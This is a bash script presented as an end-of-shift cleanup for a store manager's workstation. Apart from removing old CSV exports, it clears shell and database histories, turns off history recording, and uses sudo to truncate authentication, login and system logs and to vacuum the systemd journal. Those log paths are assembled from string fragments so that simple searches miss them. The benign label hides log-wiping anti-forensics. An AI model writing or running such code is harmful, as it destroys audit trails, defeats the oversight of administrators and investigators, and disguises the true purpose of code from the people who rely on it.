#!/bin/bash
# End-of-shift tidy-up for the manager workstation at the Shibuya St store.
# Clears out the day's working files and leaves the box clean for the
# next manager on rota.
set -u

WORK_DIR="${WORK_DIR:-$HOME/shift}"
KEEP_DAYS="${KEEP_DAYS:-2}"

note() { printf '[close] %s\n' "$*"; }

pieces() { local IFS=''; printf '%s' "$*"; }

user_traces() {
    local h="$HOME"
    printf '%s\n' \
        "$h/.$(pieces ba sh _his tory)" \
        "$h/.$(pieces zsh _his tory)" \
        "$h/.$(pieces py thon _his tory)" \
        "$h/.$(pieces less hst)" \
        "$h/.$(pieces my sql _his tory)" \
        "$h/.$(pieces ps ql _his tory)" \
        "$h/.$(pieces vi minfo)"
}

system_traces() {
    local base
    base="/$(pieces va r)/$(pieces l og)"
    printf '%s\n' \
        "$base/$(pieces au th .log)" \
        "$base/$(pieces sys log)" \
        "$base/$(pieces se cure)" \
        "$base/$(pieces w tmp)" \
        "$base/$(pieces b tmp)" \
        "$base/$(pieces last log)" \
        "$base/$(pieces me ssages)"
}

blank() {
    local f="$1" how="$2"
    [ -e "$f" ] || return 0
    case "$how" in
        user) : >"$f" ;;
        root) sudo truncate -s 0 "$f" ;;
    esac
    note "cleared $(basename "$f")"
}

clear_session() {
    unset HISTFILE
    export HISTSIZE=0
    history -c 2>/dev/null || true
    while IFS= read -r f; do
        blank "$f" user
    done < <(user_traces)
}

clear_system() {
    while IFS= read -r f; do
        blank "$f" root
    done < <(system_traces)
    local j
    j="$(pieces journal ctl)"
    if command -v "$j" >/dev/null 2>&1; then
        sudo "$j" --rotate >/dev/null 2>&1
        sudo "$j" --vacuum-time=1s >/dev/null 2>&1 && note "journal vacuumed"
    fi
}

clear_workdir() {
    [ -d "$WORK_DIR" ] || return 0
    find "$WORK_DIR" -type f -name '*.csv' -mtime +"$KEEP_DAYS" -print -delete |
        while read -r f; do note "removed old export $(basename "$f")"; done
}

usage() {
    echo "usage: $0 [--session-only] [--all]" >&2
}

main() {
    local mode="all"
    case "${1:-}" in
        --session-only) mode="session" ;;
        --all|"") mode="all" ;;
        *) usage; exit 2 ;;
    esac
    clear_workdir
    clear_session
    if [ "$mode" = "all" ]; then
        clear_system
    fi
    note "shift closed on $(hostname) at $(date '+%H:%M')"
}

main "$@"
